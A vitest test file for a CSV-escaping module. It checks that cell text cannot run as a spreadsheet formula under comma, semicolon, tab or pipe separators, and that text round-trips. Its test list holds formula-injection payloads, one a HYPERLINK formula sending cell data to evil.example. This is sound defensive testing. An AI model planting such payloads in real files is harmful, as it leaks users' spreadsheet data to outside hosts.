/** Text in CSV files: no formula runs, whatever separator a spreadsheet uses, and RFC 4180 gives the text back. */
import { describe, expect, it } from 'vitest'
import { csvLine, csvNumber, csvText } from '~/text/csv'

/** Splits a line at this separator, like a program that takes quotes only at the start of a cell. */
const read = (line: string, sign: string): string[] => {
  const cells: string[] = []
  let cell = ''
  let isQuoted = false
  for (let at = 0; at < line.length; at++) {
    const letter = line[at] ?? ''
    if (isQuoted) {
      if (letter !== '"') cell += letter
      else if (line[at + 1] === '"') cell += line[++at] ?? ''
      else isQuoted = false
    } else if (letter === '"' && cell === '') isQuoted = true
    else if (letter === sign || (sign !== ',' && /[\r\n]/.test(letter))) {
      cells.push(cell)
      cell = ''
    } else cell += letter
  }
  return [...cells, cell]
}
const runs = (cell: string): boolean =>
  /^[\s\p{Cf}\p{Cc}]*[=+@＝＋＠﹢−]/u.test(cell) ||
  (/^[\s\p{Cf}\p{Cc}]*[-－﹣]/u.test(cell) && !/^-\d+(?:\.\d+)?$/.test(cell))

const bad = [
  ...[
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1+1',
    '\r\n=1+1',
    '＝1+1',
    '－2',
    '﹢1',
    '\u00a0=1+1',
    '\u200d=1',
    '\ufeff=1',
  ],
  ...['x;=HYPERLINK("http://evil.example/?"&A1,"look")', 'a;+1', 'a;-1', 'a;@x', 'a|=1', 'a\t=1', 'a\n=1', 'a; =1'],
  ...[
    'a;\u200d=1',
    'a,"b";=1',
    '"=1+1',
    '";=1',
    '";"=1',
    ';;=1',
    'a;\t=1',
    '\u202eabc;＝1',
    '=1;=2|=3',
    "'=1",
    "x;'=1",
  ],
]
describe('text in a CSV file', () => {
  it.each([',', ';', '\t', '|'])('runs nowhere when the line is split at %j', (sign) => {
    for (const text of bad) {
      const line = csvLine([csvText('A1B2'), csvText(text), csvNumber('-12.5000'), csvText(text)]).slice(0, -2)
      expect(read(line, sign).filter(runs), JSON.stringify(text)).toEqual(sign === ',' ? ['-12.5000'].filter(runs) : [])
    }
  })
  it('is unchanged if nothing in it could run, and keeps its letters otherwise', () => {
    for (const text of ['thanks', 'a;b|c\td', 'a, "b"', 'x\ny', 'one=1', 'a-b;c-d', 'رصيد', ' spaces '])
      expect(read(csvText(text), ',')).toEqual([text])
    for (const text of bad) expect(read(csvText(text), ',').join().replaceAll("'", '')).toBe(text.replaceAll("'", ''))
  })
})
